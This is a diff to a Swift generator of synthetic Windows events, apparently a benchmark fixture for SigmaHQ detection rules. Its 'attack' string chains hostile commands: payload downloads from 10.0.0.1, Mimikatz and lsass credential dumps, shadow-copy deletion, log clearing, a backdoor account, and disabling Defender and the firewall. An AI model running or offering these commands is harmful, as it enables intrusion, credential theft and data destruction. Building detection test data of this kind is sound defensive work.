@@ -27,7 +27,7 @@ enum GeneratedEvents: String, CaseIterable {
   case unique = "worst_unique"
   /// Command lines of 32 KiB.
   case long = "worst_32KiB"
-  /// Each event hits some twenty rules of SigmaHQ.
+  /// Each event hits twenty rules of SigmaHQ and more; its values repeat, as those of the ordinary lane.
   case hits = "worst_20_hits"
   /// Values of one length that differ in the middle only: what a careless hash takes for one.
   case alike = "worst_alike"
@@ -61,7 +61,11 @@ enum GeneratedEvents: String, CaseIterable {
     "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1'); "
     + "vssadmin.exe delete shadows /all /quiet; wevtutil cl Security; reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\"
     + "CurrentVersion\\\\Run /v a /d C:\\\\Users\\\\Public\\\\a.exe; schtasks /create /tn a /tr mshta.exe; whoami /all; "
-    + "net user evil Passw0rd /add; Add-MpPreference -ExclusionPath C:\\\\; rundll32 comsvcs.dll,MiniDump"
+    + "net user evil Passw0rd /add; Add-MpPreference -ExclusionPath C:\\\\; rundll32 comsvcs.dll,MiniDump; "
+    + "sekurlsa::logonpasswords lsadump::sam privilege::debug; Invoke-Mimikatz; procdump -ma lsass.exe -accepteula; "
+    + "[Convert]::FromBase64String('SQBFAFgA'); Invoke-WebRequest http://10.0.0.1/b.exe -OutFile C:\\\\Users\\\\Public\\\\b.exe; "
+    + "bcdedit /set {default} recoveryenabled no; Set-MpPreference -DisableRealtimeMonitoring $true; "
+    + "netsh advfirewall set allprofiles state off; Get-ADUser -Filter *; Start-BitsTransfer http://10.0.0.1/c.exe"
 
   /// How many events a lane has: about 60 MB in any case.
   private var count: Int {
@@ -99,7 +103,7 @@ enum GeneratedEvents: String, CaseIterable {
     case .ordinary: return line
     case .unique: return "\(line) --run \(random.hexadecimal(24))"
     case .long: return line + " " + random.hexadecimal(32_000)
-    case .hits: return GeneratedEvents.attack + " \(number)"
+    case .hits: return GeneratedEvents.attack + " \(number % 8)"
     case .alike: return "C:\\\\tools\\\\collector.exe " + random.hexadecimal(24) + " --output C:\\\\data"
     case .literals:
       return (0..<160).map { _ in GeneratedEvents.common.randomElement(using: &random)! }.joined()
